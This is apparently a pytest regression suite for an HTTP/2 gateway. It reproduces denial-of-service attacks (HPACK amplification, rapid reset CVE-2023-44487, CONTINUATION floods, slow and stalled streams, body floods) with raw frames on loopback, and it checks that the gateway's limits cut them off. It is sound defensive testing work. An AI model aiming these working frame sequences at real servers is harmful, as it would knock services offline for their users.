"""Hostile HTTP/2 clients (issue 11): each attack, reproduced in bounded
form on loopback with raw frames, against the real gateway (2 event loops),
with what it is held to:

- the attacking connection is closed (GOAWAY ENHANCE_YOUR_CALM, or reset)
  within the stated bound;
- the gateway's RSS rises by at most 64 MB while it runs, and is back within
  16 MB of where it was once the connection is closed;
- a well-behaved client on another connection keeps getting 200s, p99 under
  100 ms (loose for a shared, noisy machine; the figure is printed).

Before the fixes (Debian's libh2o 2.2.5 as shipped), the HPACK block pinned
GBs, a zero-window stream kept its answer forever, and resets and
CONTINUATION frames were unlimited (issue 11). The limits are the gateway's
--h2-* flags (docs/SECURITY.md); a few tests shorten the timeouts so they
run in seconds, and say so.
"""

from __future__ import annotations

import json
import os
import re
import struct
import time

import pytest
from conftest import SANITIZER_ENV, Gateway, asan_binary, sanitizer_reports
from gw_util import Client
from h2_attack import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    ENHANCE_YOUR_CALM,
    HEADERS,
    RST_STREAM,
    SETTINGS_INITIAL_WINDOW_SIZE,
    GoodClient,
    RawH2,
    RssSampler,
    big_entry,
    frame,
    request_block,
    rss_bytes,
)

MB = 1 << 20
RSS_RISE_MAX = 64 * MB
RSS_RETURN_MAX = 16 * MB
P99_MAX_MS = 100.0
ONE = json.dumps({"features": [5.1, 3.5, 1.4, 0.2]}).encode()


def requests_total(c: Client) -> int:
    status, body, _ = c.request("GET", "/metrics")
    assert status == 200
    return sum(
        int(float(m.group(1)))
        for m in re.finditer(r"^skscore_http_requests_total\{[^}]*\} (\S+)$", body.decode(), re.M)
    )


def report(name: str, **figures) -> None:
    line = json.dumps({"attack": name, **figures})
    print(line)
    path = os.environ.get("SKS_H2_FIGURES")
    if path:
        with open(path, "a") as f:
            f.write(line + "\n")


@pytest.fixture
def hostile(start_gateway, model_dir):
    """Starts a gateway (2 loops, iris) with extra flags; returns it with a
    well-behaved client already connected (so the attacker lands on the
    other loop, as the gateway spreads connections) and the RSS baseline."""

    def start(*flags: str) -> tuple[Gateway, dict]:
        gw = start_gateway(
            [
                "--threads",
                "2",
                "--reload-interval",
                "0",
                "--model",
                f"iris={model_dir / 'iris.skm'}",
                *flags,
            ]
        )
        c = Client(gw.url)
        for _ in range(200):  # warm up both loops' allocators
            assert (
                c.request("POST", "/predict", ONE, {"Content-Type": "application/json"})[0] == 200
            )
        c.close()
        time.sleep(0.6)  # past one malloc trim
        return gw, {"rss0": rss_bytes(gw.proc.pid)}

    return start


def run_attack(
    gw: Gateway,
    base: dict,
    name: str,
    attack,
    close_within: float,
    expect_goaway: bool = True,
    **extra,
) -> dict:
    """Runs attack(conn) on a fresh raw connection while a good client
    predicts and RSS is sampled; checks the close bound, RSS rise and return,
    and the good client's statuses and p99."""
    good = GoodClient(gw.url, ONE)
    rss = RssSampler(gw.proc.pid)
    conn = RawH2(gw.port, **extra)
    t0 = time.monotonic()
    try:
        info = attack(conn) or {}
        conn.wait_closed(close_within + 5)
    finally:
        closed_at = conn.closed_at
        conn.close()
    peak = rss.stop()
    # at least 2 s of the good client's requests (a p99 of a few dozen is a max)
    time.sleep(max(0.3, t0 + 2.0 - time.monotonic()))
    stats = good.stop()
    deadline = time.monotonic() + 5
    while rss_bytes(gw.proc.pid) > base["rss0"] + RSS_RETURN_MAX and time.monotonic() < deadline:
        time.sleep(0.1)
    after = rss_bytes(gw.proc.pid)
    fig = {
        "closed_after_s": None if closed_at is None else round(closed_at - t0, 2),
        "goaway": None
        if conn.goaway is None
        else [conn.goaway[0], conn.goaway[1].decode(errors="replace")],
        "rss_before_mb": round(base["rss0"] / MB, 1),
        "rss_peak_mb": round(peak / MB, 1),
        "rss_after_mb": round(after / MB, 1),
        "good_requests": stats["n"],
        "good_non_200": stats["non_200"],
        "good_p50_ms": round(stats["p50_ms"], 2),
        "good_p99_ms": round(stats["p99_ms"], 2),
        **info,
    }
    report(name, **fig)
    assert closed_at is not None and closed_at - t0 <= close_within, fig
    if expect_goaway:
        assert conn.goaway is not None and conn.goaway[0] == ENHANCE_YOUR_CALM, fig
    assert peak - base["rss0"] <= RSS_RISE_MAX, fig
    assert after - base["rss0"] <= RSS_RETURN_MAX, fig
    assert stats["n"] > 0 and stats["non_200"] == 0, (fig, stats["errors"])
    assert stats["p99_ms"] < P99_MAX_MS, fig
    assert gw.proc.poll() is None
    return fig


def split_block(sid: int, block: bytes, flags: int, size: int = 16384) -> bytes:
    """HEADERS + CONTINUATION frames carrying block in size-byte pieces."""
    parts = [block[i : i + size] for i in range(0, len(block), size)] or [b""]
    out = b""
    for i, p in enumerate(parts):
        last = END_HEADERS if i == len(parts) - 1 else 0
        out += frame(HEADERS if i == 0 else CONTINUATION, (flags if i == 0 else 0) | last, sid, p)
    return out


def test_hpack_amplification_large_block(hostile):
    """Issue 11's shape: a 4 KB dynamic-table entry, then header blocks of
    ~408 KB of one-byte references to it (1.7 GB decoded each), on streams
    held at zero window. The block is cut at --h2-max-header-list-bytes
    (64 KiB)."""
    gw, base = hostile()

    def attack(conn: RawH2) -> dict:
        conn.send(
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                1,
                request_block("GET", "/v2/health/ready", big_entry()),
            )
        )
        sent = 0
        for sid in range(3, 3 + 2 * 100, 2):
            if not conn.send(
                split_block(
                    sid, request_block("GET", "/v2/health/ready", b"\xbe" * 400_000), END_STREAM
                )
            ):
                break
            sent += 1
        return {"blocks_sent": sent}

    fig = run_attack(
        gw,
        base,
        "hpack_large_block",
        attack,
        close_within=2.0,
        settings={SETTINGS_INITIAL_WINDOW_SIZE: 0},
    )
    assert "header block too large" in fig["goaway"][1]


def test_hpack_amplification_decoded_list(hostile):
    """A small block (15 KB, one frame) that decodes to 60 MB: 15,000
    references to the 4 KB entry. The decoded list is cut at 64 KiB."""
    gw, base = hostile()

    def attack(conn: RawH2) -> dict:
        conn.send(
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                1,
                request_block("GET", "/v2/health/ready", big_entry()),
            )
        )
        sent = 0
        for sid in range(3, 3 + 2 * 100, 2):
            if not conn.send(
                frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    sid,
                    request_block("GET", "/v2/health/ready", b"\xbe" * 15_000),
                )
            ):
                break
            sent += 1
        return {"blocks_sent": sent}

    fig = run_attack(
        gw,
        base,
        "hpack_decoded_list",
        attack,
        close_within=2.0,
        settings={SETTINGS_INITIAL_WINDOW_SIZE: 0},
    )
    assert "header list too large" in fig["goaway"][1]


def test_hpack_under_the_limit_still_served(hostile):
    """The limit does not refuse real requests: a block that decodes to
    ~60 KB (14 references) is answered 200."""
    gw, _ = hostile()
    conn = RawH2(gw.port)
    try:
        conn.send(
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                1,
                request_block("GET", "/v2/health/ready", big_entry() + b"\xbe" * 14),
            )
        )
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(
            f[0] == HEADERS and f[2] == 1 for f in conn.frames
        ):
            time.sleep(0.01)
        hdr = [f for f in conn.frames if f[0] == HEADERS and f[2] == 1]
        assert hdr and hdr[0][3][:1] == b"\x88", conn.frames  # :status 200 (static index 8)
        assert conn.goaway is None
    finally:
        conn.close()


def test_stalled_streams(hostile):
    """Zero window (SETTINGS_INITIAL_WINDOW_SIZE 0): 40 predicts of 20,000
    rows with probabilities (0.44 MB of body and 0.53 MB of answer each: 38 MB in all) that the
    client never lets the gateway send. No new request starts once 8 MiB of
    answers wait (--h2-max-unsent-bytes), and the connection is closed when
    a stream has sent nothing for --h2-stall-timeout (3 s here; 10 s by
    default): bound 3 s + 1 s timer tick + 1 s slack."""
    gw, base = hostile("--h2-stall-timeout", "3")
    rows = json.dumps({"instances": [[5.1, 3.5, 1.4, 0.2], [6.0, 3.0, 5.0, 2.0]] * 10_000}).encode()

    def attack(conn: RawH2) -> dict:
        sent = 0
        for sid in range(1, 1 + 2 * 40, 2):
            blk = request_block("POST", "/predict?outputs=predict,predict_proba", content_type=True)
            data = b"".join(
                frame(DATA, END_STREAM if i + 16384 >= len(rows) else 0, sid, rows[i : i + 16384])
                for i in range(0, len(rows), 16384)
            )
            if not conn.send(frame(HEADERS, END_HEADERS, sid, blk) + data):
                break
            sent += 1
        return {"requests_sent": sent}

    run_attack(
        gw,
        base,
        "stalled_streams",
        attack,
        close_within=5.0,
        settings={SETTINGS_INITIAL_WINDOW_SIZE: 0},
    )


def test_stalled_streams_default_timeout(hostile):
    """The same at the defaults (--h2-stall-timeout 10): closed within 12 s."""
    gw, base = hostile()

    def attack(conn: RawH2) -> dict:
        for sid in range(1, 1 + 2 * 20, 2):
            conn.send(
                frame(
                    HEADERS, END_HEADERS | END_STREAM, sid, request_block("GET", "/v2/health/ready")
                )
            )
        return {}

    fig = run_attack(
        gw,
        base,
        "stalled_streams_default",
        attack,
        close_within=12.0,
        settings={SETTINGS_INITIAL_WINDOW_SIZE: 0},
    )
    assert fig["closed_after_s"] >= 9.0, fig  # not before the timeout either


def test_slow_header_block(hostile):
    """A header block never finished: HEADERS without END_HEADERS, then a
    zero-length CONTINUATION (9 bytes) every 0.5 s, which used to keep the
    connection (and its ~0.5 MB block) forever. --h2-header-timeout 2 (10 by
    default): closed within 2 s + 1 s tick + 1 s slack."""
    gw, base = hostile("--h2-header-timeout", "2")

    def attack(conn: RawH2) -> dict:
        conn.send(
            frame(HEADERS, END_STREAM, 1, request_block("GET", "/v2/health/ready", b"x" * 8000))
        )
        n = 0
        deadline = time.monotonic() + 10
        while conn.closed_at is None and time.monotonic() < deadline:
            if not conn.send(frame(CONTINUATION, 0, 1)):
                break
            n += 1
            time.sleep(0.5)
        return {"continuations_sent": n}

    fig = run_attack(gw, base, "slow_header_block", attack, close_within=4.0)
    assert "header block timeout" in fig["goaway"][1]


def test_slow_headers_frame(hostile):
    """A HEADERS frame itself dripped in: a 16 KB frame announced, 20 bytes
    of it sent every 0.5 s. Closed within --h2-header-timeout 2 + 2 s."""
    gw, base = hostile("--h2-header-timeout", "2")

    def attack(conn: RawH2) -> dict:
        payload = request_block("GET", "/v2/health/ready", b"\x00" * 16000)
        head = (
            struct.pack(">I", 16384)[1:]
            + bytes([HEADERS, END_HEADERS | END_STREAM])
            + struct.pack(">I", 1)
        )
        conn.send(head)
        n = 0
        deadline = time.monotonic() + 10
        while conn.closed_at is None and time.monotonic() < deadline and n * 20 < len(payload):
            if not conn.send(payload[n * 20 : (n + 1) * 20]):
                break
            n += 1
            time.sleep(0.5)
        return {"chunks_sent": n}

    fig = run_attack(gw, base, "slow_headers_frame", attack, close_within=4.0)
    assert "incomplete frame timeout" in fig["goaway"][1]


def test_continuation_flood(hostile):
    """Zero-length CONTINUATION frames without end: 200,000 sent as fast as
    the socket takes them. Cut after --h2-max-continuations (32): closed
    within 1 s."""
    gw, base = hostile()

    def attack(conn: RawH2) -> dict:
        conn.send(frame(HEADERS, END_STREAM, 1, request_block("GET", "/v2/health/ready")))
        batch = frame(CONTINUATION, 0, 1) * 1000
        n = 0
        while n < 200_000 and conn.send(batch):
            n += 1000
        return {"continuations_sent": n}

    fig = run_attack(gw, base, "continuation_flood", attack, close_within=1.0)
    assert "too many CONTINUATION frames" in fig["goaway"][1]


def test_rapid_reset(hostile):
    """CVE-2023-44487: HEADERS then RST_STREAM, 100,000 times, pipelined.
    The connection is closed once the reset budget (--h2-reset-budget 200,
    refilled 200 per 10 s) is spent: within 1 s, and at most a few hundred
    of the requests are executed (all 100,000 were)."""
    gw, base = hostile()
    c = Client(gw.url)
    before = requests_total(c)

    def attack(conn: RawH2) -> dict:
        n = 0
        blk = request_block("GET", "/v2/health/ready")
        for batch in range(200):
            out = b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, sid, blk)
                + frame(RST_STREAM, 0, sid, b"\0\0\0\x08")
                for sid in range(1 + 1000 * batch, 1 + 1000 * (batch + 1), 2)
            )
            if not conn.send(out):
                break
            n += 500
        return {"pairs_sent": n}

    fig = run_attack(gw, base, "rapid_reset", attack, close_within=1.0)
    executed = (
        requests_total(c) - before - 1 - fig["good_requests"]
    )  # less the good client's and one /metrics
    c.close()
    report("rapid_reset_executed", executed=executed, pairs_sent=fig["pairs_sent"])
    assert "too many stream resets" in fig["goaway"][1]
    assert executed <= 1000, executed


def test_request_body_flood(hostile):
    """Eight streams each uploading a 15 MB body (under --max-body-bytes)
    in 16 KB DATA frames, never finished: 120 MB offered. Request bodies a
    connection buffers are capped (--h2-max-conn-body-bytes, 33 MiB by default): the
    streams over it are reset (RST_STREAM ENHANCE_YOUR_CALM) while the
    connection lives on; the client sends for up to 10 s, then closes."""
    gw, base = hostile()

    def attack(conn: RawH2) -> dict:
        chunk = b"[" + b"1," * 8190 + b"1"
        sids = list(range(1, 17, 2))
        for sid in sids:
            blk = request_block(
                "POST", "/predict", b"\x5c" + bytes([8]) + b"15000000", content_type=True
            )
            conn.send(frame(HEADERS, END_HEADERS, sid, blk))
        sent = 0
        deadline = time.monotonic() + 10
        while sent < 120 * MB and time.monotonic() < deadline:
            out = b"".join(frame(DATA, 0, sid, chunk) for sid in sids)
            if not conn.send(out):
                break
            sent += len(out)
        resets = sum(1 for f in conn.frames if f[0] == RST_STREAM)
        time.sleep(1.0)
        conn.close()
        return {"body_bytes_sent": sent, "streams_reset": resets}

    fig = run_attack(gw, base, "request_body_flood", attack, close_within=15.0, expect_goaway=False)
    assert fig["streams_reset"] >= 1, fig


def test_attacks_under_asan(start_gateway, model_dir):
    """Every attack above, in short form, against the ASan+UBSan build (h2o
    compiled with it too) with leak checking on: each connection is cut as
    above, a good request still succeeds, and the server exits 0 with no
    sanitizer report (LSan's included, less gateway/lsan.supp)."""
    gw = start_gateway(["--threads", "2", "--reload-interval", "0", "--model", f"iris={model_dir / 'iris.skm'}",
                        "--h2-stall-timeout", "2", "--h2-header-timeout", "2"],
                       env=SANITIZER_ENV, binary=asan_binary(), timeout=30)
    amp = request_block("GET", "/v2/health/ready", big_entry())
    attacks = {
        "header list too large": [frame(HEADERS, END_HEADERS | END_STREAM, 1, amp),
                                  frame(HEADERS, END_HEADERS | END_STREAM, 3,
                                        request_block("GET", "/v2/health/ready", b"\xbe" * 15_000))],
        "header block too large": [frame(HEADERS, END_HEADERS | END_STREAM, 1, amp),
                                   split_block(3, request_block("GET", "/", b"\xbe" * 200_000), END_STREAM)],
        "too many CONTINUATION frames": [frame(HEADERS, END_STREAM, 1, request_block("GET", "/v2/health/ready")),
                                         frame(CONTINUATION, 0, 1) * 100],
        "too many stream resets": [b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid,
                                                  request_block("GET", "/v2/health/ready"))
                                            + frame(RST_STREAM, 0, sid, b"\0\0\0\x08") for sid in range(1, 1001, 2))],
        "header block timeout": [frame(HEADERS, END_STREAM, 1, request_block("GET", "/v2/health/ready"))],
        "stalled stream": [b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid,
                                          request_block("POST", "/predict", content_type=True)) for sid in (1, 3)),
                           b"".join(frame(HEADERS, END_HEADERS, sid, request_block("POST", "/predict",
                                                                                   content_type=True))
                                    + frame(DATA, END_STREAM, sid, ONE) for sid in (5, 7))],
    }
    try:
        for why, sends in attacks.items():
            conn = RawH2(gw.port, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0})
            for data in sends:
                conn.send(data)
            conn.wait_closed(6)
            conn.close()
            assert conn.goaway is not None and conn.goaway[0] == ENHANCE_YOUR_CALM, (why, conn.goaway)
            assert why in conn.goaway[1].decode(), (why, conn.goaway)
        status, body, _ = Client(gw.url).request("POST", "/predict", ONE, {"Content-Type": "application/json"})
        assert status == 200, body
    finally:
        rc = gw.stop()
    reports = sanitizer_reports(gw)
    assert not reports, "".join(reports[:60])
    assert rc == 0


def test_memory_returned_after_burst(hostile, tmp_path):
    """Not an attack: a burst of large batches (16 connections x 4 streams,
    20,000 rows each with probabilities, over HTTP/2 and HTTP/1.1), then
    quiet. What the burst took goes back to the system once its connections
    close (mmap'd large blocks, malloc_trim after a close): RSS within 16 MB
    of where it was (Debian's build kept 0.4-3.8 GB after attacks, issue 11)."""
    shutil = pytest.importorskip("shutil")
    if shutil.which("h2load") is None:
        pytest.skip("h2load (nghttp2-client) is not installed")
    from gw_util import h2load

    gw, base = hostile()
    rows = tmp_path / "rows.json"
    rows.write_text(json.dumps({"instances": [[5.1, 3.5, 1.4, 0.2], [6.0, 3.0, 5.0, 2.0]] * 10_000}))
    rss = RssSampler(gw.proc.pid)
    url = gw.url + "/predict?outputs=predict,predict_proba"
    hdr = {"content-type": "application/json"}
    r2 = h2load(url, n=256, clients=16, streams=4, data=rows, headers=hdr)
    r1 = h2load(url, n=128, clients=16, data=rows, headers=hdr, h1=True)
    peak = rss.stop()
    deadline = time.monotonic() + 5
    while rss_bytes(gw.proc.pid) > base["rss0"] + RSS_RETURN_MAX and time.monotonic() < deadline:
        time.sleep(0.1)
    after = rss_bytes(gw.proc.pid)
    report("burst", rss_before_mb=round(base["rss0"] / MB, 1), rss_peak_mb=round(peak / MB, 1),
           rss_after_mb=round(after / MB, 1), h2_succeeded=r2.get("succeeded"), h1_succeeded=r1.get("succeeded"))
    assert r2.get("succeeded") == 256 and r1.get("succeeded") == 128, (r2.get("raw"), r1.get("raw"))
    assert after - base["rss0"] <= RSS_RETURN_MAX, (peak, after, base)
